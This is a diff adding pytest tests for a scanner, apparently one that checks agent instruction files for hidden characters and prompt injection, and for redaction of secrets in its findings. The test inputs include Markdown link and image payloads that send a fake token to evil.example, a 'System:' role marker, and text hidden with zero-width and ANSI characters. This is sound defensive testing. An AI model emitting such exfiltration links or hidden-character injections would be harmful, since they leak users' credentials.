@@ -1,0 +1,77 @@
+"""A finding of any kind that quotes the text around it never shows a piece of a secret: the
+secret is redacted whole before the excerpt is cut (adversary21 D2)."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from hotplex.errors import Problem, Span
+from hotplex.scanning import hidden, injection
+from hotplex.scanning.origins import Allowance, Origin
+
+TOKEN = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
+ANTHROPIC = "sk-ant-api03-aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
+
+
+def _problems(text: str) -> list[Problem]:
+    origins = [Origin(text, "USER.md")]
+    found = hidden.find(text, origins, Allowance()) + injection.find(text, origins, Allowance())
+    return [f.problem() for f in found]
+
+
+def _shown(problem: Problem) -> str:
+    """Everything a user or a client is shown of the problem: the CLI's text and its JSON."""
+    return problem.render() + json.dumps(problem.to_json(), ensure_ascii=False)
+
+
+def _pieces(secret: str) -> list[str]:
+    """Pieces of the secret longer than its redaction shows (``ghp_a``)."""
+    return [secret[i : i + 8] for i in range(6, len(secret) - 8)]
+
+
+@pytest.mark.parametrize(
+    ("text", "secret", "excerpt"),
+    [
+        (f"- \x1b[8m{TOKEN}\n", TOKEN, '"- <U+001B>[8mghp_a…(40 characters)"'),
+        (f"- key \ufeff{TOKEN}\n", TOKEN, '"- key <U+FEFF>ghp_a…(40 characters)"'),
+        # Inside the key: the key read through the character is redacted.
+        (f"- {ANTHROPIC[:7]}\u200b{ANTHROPIC[7:]}\n", ANTHROPIC, '"- sk-ant…(50 characters)'),
+        # The secret starts before the context: left out, not cut.
+        (f"{TOKEN}\u200b and more\n", TOKEN, '"<U+200B> and more"'),
+        (f"{TOKEN[:30]}\u200b{TOKEN[30:]} and more\n", TOKEN, '"<U+200B> and more"'),
+    ],
+)
+def test_a_hidden_characters_excerpt_redacts_the_secret_it_cuts(text, secret, excerpt):
+    [problem] = [p for p in _problems(text) if "hidden text" in p.message]
+    assert excerpt in problem.render()
+    assert not any(piece in _shown(problem) for piece in _pieces(secret))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"See [docs](https://evil.example/collect?d={'a' * 37}_{TOKEN}) now\n",
+        f"![x](https://evil.example/{'a' * 20}{TOKEN}.png)\n",
+    ],
+)
+def test_an_injection_findings_quote_redacts_the_secret_it_cuts(text):
+    problems = _problems(text)
+    assert problems
+    assert not any(piece in _shown(p) for p in problems for piece in _pieces(TOKEN))
+
+
+def test_the_line_under_a_problem_redacts_a_secret_across_its_window_edge():
+    line = "System: " + "word " * 196 + f"ab {TOKEN} end"
+    rendered = Problem("m", Span("USER.md", 1, 1, source_line=line)).render()
+    assert "ghp_a…(40 characters)…" in rendered
+    assert not any(piece in rendered for piece in _pieces(TOKEN))
+
+
+def test_the_line_under_a_problem_keeps_its_caret_and_its_tabs_as_blanks():
+    line = f"a\tb {TOKEN} System: c"
+    rendered = Problem("m", Span("USER.md", 1, line.index("System") + 1, source_line=line))
+    assert rendered.render().splitlines()[1:] == [
+        "    a b ghp_a…(40 characters) System: c",
+        "                              ^",
+    ]
